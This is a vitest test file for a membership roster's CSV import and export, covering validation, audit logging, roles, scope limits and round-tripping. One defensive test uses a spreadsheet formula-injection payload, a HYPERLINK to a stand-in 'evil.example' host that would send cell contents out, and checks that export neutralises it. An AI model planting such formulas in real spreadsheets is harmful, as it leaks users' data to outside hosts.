import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashPassword } from '../../../auth/passwords.ts';
import { DEMO_PASSWORD } from '../../../db/seed/personas.ts';
import { seedDemo } from '../../../db/seed/seed-demo.ts';
import type { ConsoleScope } from '../../../policies/console.ts';
import { DEMO_NOW } from '../../../test/demo-services.ts';
import { createTestDatabase } from '../../../test/test-database.ts';
import type { TestDatabase } from '../../../test/test-database.ts';
import { exportRoster } from './export-roster.ts';
import { importRoster } from './import-roster.ts';
import type { RosterImportOptions } from './import-roster.ts';

/*
 * The roster import and export on the demo data (issue 23, D64), on both engines. The tests
 * run in order and build on each other: members added by one are changed by the next.
 */

let database: TestDatabase;
let organizationId: number;
const NOW = DEMO_NOW + 86_400_000;
const ALL: ConsoleScope = { kind: 'all' };

beforeAll(async () => {
  database = await createTestDatabase();
  await seedDemo(database.handle.db, {
    passwordHash: await hashPassword(DEMO_PASSWORD),
    now: DEMO_NOW,
  });
  const org = await database.handle.db
    .selectFrom('member_statuses')
    .select('organization_id')
    .where('member_number', '=', '104215')
    .executeTakeFirstOrThrow();
  organizationId = org.organization_id;
}, 120_000);

afterAll(async () => {
  await database.drop();
});

const db = () => database.handle.db;

function run(csv: string, options: Partial<RosterImportOptions> = {}) {
  return importRoster(db(), csv, {
    organizationId,
    dryRun: false,
    scope: ALL,
    actorUserId: null,
    now: NOW,
    ...options,
  });
}

async function exported(clubId?: number, scope: ConsoleScope = ALL): Promise<string> {
  let text = '';
  for await (const chunk of exportRoster(db(), { organizationId, clubId, scope })) text += chunk;
  return text;
}

async function memberOf(memberNumber: string) {
  const status = await db()
    .selectFrom('member_statuses as s')
    .innerJoin('parties as p', 'p.id', 's.party_id')
    .selectAll('p')
    .select(['s.status', 's.status_on', 's.color'])
    .where('s.organization_id', '=', organizationId)
    .where('s.member_number', '=', memberNumber)
    .executeTakeFirst();
  if (!status) return null;
  const memberships = await db()
    .selectFrom('memberships as m')
    .innerJoin('clubs as c', 'c.id', 'm.club_id')
    .select(['m.id', 'c.subdomain', 'm.joined_on', 'm.member_number', 'm.left_at'])
    .where('m.party_id', '=', status.id)
    .orderBy('c.subdomain')
    .execute();
  const roles = await db()
    .selectFrom('membership_roles')
    .select(['membership_id', 'role_name'])
    .where(
      'membership_id',
      'in',
      memberships.map((m) => m.id),
    )
    .orderBy('role_name')
    .execute();
  return {
    ...status,
    memberships: memberships.map((m) => ({
      ...m,
      roles: roles.filter((r) => r.membership_id === m.id).map((r) => r.role_name),
    })),
    emails: await db()
      .selectFrom('emails')
      .select('address')
      .where('party_id', '=', status.id)
      .execute(),
    phones: await db()
      .selectFrom('phones')
      .select('number')
      .where('party_id', '=', status.id)
      .orderBy('id')
      .execute(),
    addresses: await db()
      .selectFrom('addresses')
      .select(['address_1', 'city', 'state', 'zip'])
      .where('party_id', '=', status.id)
      .execute(),
  };
}

function auditRows(action: string) {
  return db()
    .selectFrom('audit_log')
    .select(['party_id', 'club_id', 'organization_id', 'before_value', 'after_value', 'detail'])
    .where('action', '=', action)
    .orderBy('id')
    .execute();
}

const HEADER =
  'member_number,first_name,last_name,birth_date,club,middle_name,email,cell_phone,address_1,city,state,zip,roles,joined_on';
const NEW_MEMBERS = [
  HEADER,
  '7000001,Ezra,Holt,07/04/1949,harmony412,James,ezra.holt@example.org,(614) 555-0101,"12 Main St, Rear",Columbus,OH,43215,secretary,1990-05-01',
  '7000001,Ezra,Holt,1949-07-04,olentangy614,James,,,,,,,,2001-02-03',
  '7000002,Amos,Reed,1955-01-02,harmony412,,,,,,,,,',
].join('\r\n');

describe('importRoster', () => {
  it('checks a file without writing in a dry run', async () => {
    const outcome = await run(NEW_MEMBERS, { dryRun: true });
    expect(outcome).toMatchObject({
      totalRows: 3,
      added: 2,
      updated: 0,
      errors: [],
      committed: false,
      failure: null,
    });
    expect(await memberOf('7000001')).toBeNull();
    expect(await auditRows('roster.imported')).toEqual([]);
  });

  it('writes nothing when any row has an error, and names every error', async () => {
    const progress: [number, number][] = [];
    const outcome = await run(`${NEW_MEMBERS}\r\n123,Bad,Number,1950-13-01,harmony412,,,,,,,,,`, {
      onProgress: (done, total) => {
        progress.push([done, total]);
      },
    });
    expect(outcome.committed).toBe(false);
    expect(outcome.added).toBe(2);
    expect(outcome.errors).toEqual([
      { line: 5, column: 'member_number', message: 'Must be 6 to 8 digits.' },
      { line: 5, column: 'birth_date', message: expect.stringContaining('not a real date') },
    ]);
    expect(progress.at(-1)).toEqual([4, 4]);
    expect(await memberOf('7000001')).toBeNull();
    expect(await auditRows('roster.imported')).toEqual([]);
  });

  it('adds new members with their clubs, roles, contacts and audit rows', async () => {
    const progress: [number, number][] = [];
    const outcome = await run(NEW_MEMBERS, {
      onProgress: (done, total) => {
        progress.push([done, total]);
      },
    });
    expect(progress[0]).toEqual([0, 3]);
    expect(progress.at(-1)).toEqual([3, 3]);
    expect(outcome).toMatchObject({ added: 2, updated: 0, unchanged: 0, committed: true });
    const ezra = await memberOf('7000001');
    expect(ezra).toMatchObject({
      first_name: 'Ezra',
      middle_name: 'James',
      last_name: 'Holt',
      birth_date: '1949-07-04',
      first_name_key: 'ezra',
      status: 'active',
      emails: [{ address: 'ezra.holt@example.org' }],
      phones: [{ number: '6145550101' }],
      addresses: [{ address_1: '12 Main St, Rear', city: 'Columbus', state: 'OH', zip: '43215' }],
    });
    expect(ezra?.memberships).toEqual([
      expect.objectContaining({
        subdomain: 'harmony412',
        joined_on: '1990-05-01',
        member_number: '7000001',
        roles: ['secretary', 'user'],
      }),
      expect.objectContaining({
        subdomain: 'olentangy614',
        joined_on: '2001-02-03',
        roles: ['user'],
      }),
    ]);
    const added = await auditRows('member.added');
    expect(added).toHaveLength(2);
    expect(added[0]).toMatchObject({ party_id: ezra?.id, organization_id: organizationId });
    expect(JSON.parse(added[0]?.after_value ?? '')).toMatchObject({
      member_number: '7000001',
      clubs: ['harmony412', 'olentangy614'],
    });
    const imported = await auditRows('roster.imported');
    expect(imported).toHaveLength(1);
    expect(JSON.parse(imported[0]?.detail ?? '')).toEqual({ added: 2, updated: 0, unchanged: 0 });
  });

  it('changes nothing when the same file comes again, and writes only the import row', async () => {
    const outcome = await run(NEW_MEMBERS);
    expect(outcome).toMatchObject({ added: 0, updated: 0, unchanged: 2, committed: true });
    expect(await auditRows('member.added')).toHaveLength(2);
    expect(await auditRows('member.updated')).toHaveLength(0);
  });

  it('updates the one field that differs, with only that field in the audit row', async () => {
    const outcome = await run(NEW_MEMBERS.replace('7000002,Amos,Reed', '7000002,Amos,Reid'));
    expect(outcome).toMatchObject({ added: 0, updated: 1, unchanged: 1 });
    const amos = await memberOf('7000002');
    expect(amos).toMatchObject({ last_name: 'Reid', last_name_key: 'reid' });
    const [row] = await auditRows('member.updated');
    expect(row).toMatchObject({ party_id: amos?.id });
    expect(JSON.parse(row?.before_value ?? '')).toEqual({ last_name: 'Reed' });
    expect(JSON.parse(row?.after_value ?? '')).toEqual({ last_name: 'Reid' });
  });

  it('sets roles to exactly those listed, leaves them without the column, and keeps other clubs', async () => {
    const only = [
      'member_number,first_name,last_name,birth_date,club,roles',
      '7000001,Ezra,Holt,1949-07-04,harmony412,webmaster',
    ].join('\n');
    expect(await run(only)).toMatchObject({ updated: 1, unchanged: 0 });
    let ezra = await memberOf('7000001');
    expect(ezra?.memberships.map((m) => [m.subdomain, m.roles, m.left_at])).toEqual([
      ['harmony412', ['user', 'webmaster'], null],
      ['olentangy614', ['user'], null],
    ]);
    const withoutRoles = only.replace(',roles', '').replace(',webmaster', '');
    expect(await run(withoutRoles)).toMatchObject({ updated: 0, unchanged: 1 });
    ezra = await memberOf('7000001');
    expect(ezra?.memberships[0]?.roles).toEqual(['user', 'webmaster']);
    // The middle name column is absent: kept, not cleared.
    expect(ezra?.middle_name).toBe('James');
  });

  it('ends the sessions of a member whose status leaves active, in the same transaction', async () => {
    const m = await memberOf('104215');
    const user = await db()
      .selectFrom('users')
      .select('id')
      .where('party_id', '=', m?.id ?? 0)
      .executeTakeFirstOrThrow();
    await db()
      .insertInto('sessions')
      .values({
        user_id: user.id,
        token_hash: 'roster-test',
        public_key: 'key',
        key_type: 'Ed25519',
        created_at: NOW,
        last_seen_at: NOW,
        expires_at: NOW + 86_400_000,
        ip: null,
        user_agent: null,
        client_id: null,
        client_version: null,
      })
      .execute();
    const csv = [
      'member_number,first_name,last_name,birth_date,club,status',
      `104215,${m?.first_name},${m?.last_name},${m?.birth_date},harmony412,demitted`,
    ].join('\n');
    const outcome = await run(csv);
    expect(outcome).toMatchObject({ updated: 1, committed: true });
    expect(outcome.busEvents).toHaveLength(1);
    expect(outcome.busEvents[0]?.payload).toMatchObject({ kind: 'session_end' });
    const sessions = await db()
      .selectFrom('sessions')
      .select('id')
      .where('user_id', '=', user.id)
      .execute();
    expect(sessions).toEqual([]);
    expect(await memberOf('104215')).toMatchObject({
      status: 'demitted',
      status_on: new Date(NOW).toISOString().slice(0, 10),
    });
    const rows = await auditRows('member.updated');
    expect(JSON.parse(rows.at(-1)?.after_value ?? '')).toEqual({ status: 'demitted' });
  });

  it('writes a big file a chunk at a time in one transaction, with the same outcome (D72)', async () => {
    const header = 'member_number,first_name,last_name,birth_date,club,email';
    const rows = Array.from(
      { length: 7 },
      (_, i) =>
        `71000${10 + i},Chunk${i},Member,1950-01-0${i + 1},harmony412,chunk${i}@example.org`,
    );
    // One member on record changes too, so the chunks hold updates and additions.
    const amos = '7000002,Amos,Reid,1955-01-02,harmony412,amos.reid@example.org';
    const before = (await auditRows('roster.imported')).length;
    const outcome = await run([header, ...rows, amos].join('\n'), { chunkMembers: 2 });
    expect(outcome).toMatchObject({ added: 7, updated: 1, unchanged: 0, committed: true });
    for (let i = 0; i < 7; i++) {
      expect(await memberOf(`71000${10 + i}`)).toMatchObject({
        first_name: `Chunk${i}`,
        emails: [{ address: `chunk${i}@example.org` }],
      });
    }
    expect((await memberOf('7000002'))?.emails).toEqual([{ address: 'amos.reid@example.org' }]);
    const imported = await auditRows('roster.imported');
    expect(imported).toHaveLength(before + 1);
    expect(JSON.parse(imported.at(-1)?.detail ?? '')).toEqual({
      added: 7,
      updated: 1,
      unchanged: 0,
    });
    // The same file again, in chunks of one: nothing to write.
    expect(await run([header, ...rows, amos].join('\n'), { chunkMembers: 1 })).toMatchObject({
      added: 0,
      updated: 0,
      unchanged: 8,
    });
  });

  it("refuses a club outside the console user's scope and follows the organisation's number rule", async () => {
    const clubs = await db()
      .selectFrom('clubs')
      .select(['id', 'subdomain'])
      .where('subdomain', 'in', ['harmony412', 'olentangy614'])
      .execute();
    const harmony = clubs.find((c) => c.subdomain === 'harmony412')?.id ?? 0;
    const scope: ConsoleScope = {
      kind: 'clubs',
      clubIds: new Set([harmony]),
      organizationIds: new Set([organizationId]),
    };
    const outcome = await run(NEW_MEMBERS, { scope, dryRun: true });
    expect(outcome.errors).toEqual([
      { line: 3, column: 'club', message: '"olentangy614" is not one of your clubs.' },
    ]);
    const elsewhere = await run(NEW_MEMBERS, {
      scope: { kind: 'clubs', clubIds: new Set([harmony]), organizationIds: new Set([-1]) },
    });
    expect(elsewhere.failure).toBe('This organisation is not one you manage.');
    const short = await run(NEW_MEMBERS.replaceAll('7000002', '70000020'.slice(0, 5)), {
      dryRun: true,
    });
    expect(short.errors.map((e) => [e.line, e.message])).toEqual([[4, 'Must be 6 to 8 digits.']]);
  });
});

describe('exportRoster', () => {
  it('writes a file that imports back unchanged, and the same text twice', async () => {
    const first = await exported();
    expect(first.split('\r\n')[0]).toBe(
      'member_number,first_name,last_name,birth_date,club,middle_name,suffix,preferred_name,email,cell_phone,home_phone,office_phone,address_1,address_2,city,state,zip,country,roles,status,joined_on',
    );
    expect(first).toContain(
      '7000001,Ezra,Holt,1949-07-04,harmony412,James,,,ezra.holt@example.org,6145550101,,,"12 Main St, Rear",,Columbus,OH,43215,US,webmaster,active,1990-05-01',
    );
    const outcome = await run(first);
    expect(outcome.errors).toEqual([]);
    expect(outcome.added + outcome.updated).toBe(0);
    expect(outcome.unchanged).toBeGreaterThan(1000);
    expect(await exported()).toBe(first);
  }, 120_000);

  it("writes one club's rows, and only the clubs of the scope", async () => {
    const harmony = await db()
      .selectFrom('clubs')
      .select('id')
      .where('subdomain', '=', 'harmony412')
      .executeTakeFirstOrThrow();
    const rows = (await exported(harmony.id)).trim().split('\r\n').slice(1);
    expect(rows.length).toBeGreaterThan(2);
    expect(rows.every((row) => row.split(',')[4] === 'harmony412')).toBe(true);
    const scoped = await exported(undefined, {
      kind: 'clubs',
      clubIds: new Set([harmony.id]),
      organizationIds: new Set([organizationId]),
    });
    expect(scoped.trim().split('\r\n').slice(1)).toEqual(rows);
  }, 60_000);

  it('guards cells a spreadsheet would run as formulas, and imports them back unchanged (D71)', async () => {
    const name = '=HYPERLINK("https://evil.example/?q="&A1,"Click")';
    const file = [
      'member_number,first_name,last_name,birth_date,club,middle_name,cell_phone',
      `7000009,"${name.replaceAll('"', '""')}",@Holt,1950-01-02,harmony412,-Ann,+1 614 555 0100`,
    ].join('\r\n');
    expect((await run(file)).added).toBe(1);
    expect(await memberOf('7000009')).toMatchObject({
      first_name: name,
      last_name: '@Holt',
      middle_name: '-Ann',
      phones: [{ number: '16145550100' }],
    });
    const harmony = await db()
      .selectFrom('clubs')
      .select('id')
      .where('subdomain', '=', 'harmony412')
      .executeTakeFirstOrThrow();
    const out = await exported(harmony.id);
    const row = out.split('\r\n').find((line) => line.startsWith('7000009,'));
    // Every cell that began with =, +, - or @ now begins with an apostrophe.
    expect(row).toBe(
      `7000009,"'${name.replaceAll('"', '""')}",'@Holt,1950-01-02,harmony412,'-Ann,,,,16145550100,,,,,,,,,,active,`,
    );
    const back = await run(out);
    expect(back.errors).toEqual([]);
    expect(back.added + back.updated).toBe(0);
    expect(await memberOf('7000009')).toMatchObject({ first_name: name, last_name: '@Holt' });
    // A spreadsheet's own guarded phone, as a member types it with +, reads as its digits.
    const typed = file.replace('+1 614 555 0100', "'+1 614 555 0100");
    expect((await run(typed)).updated).toBe(0);
  }, 120_000);
});
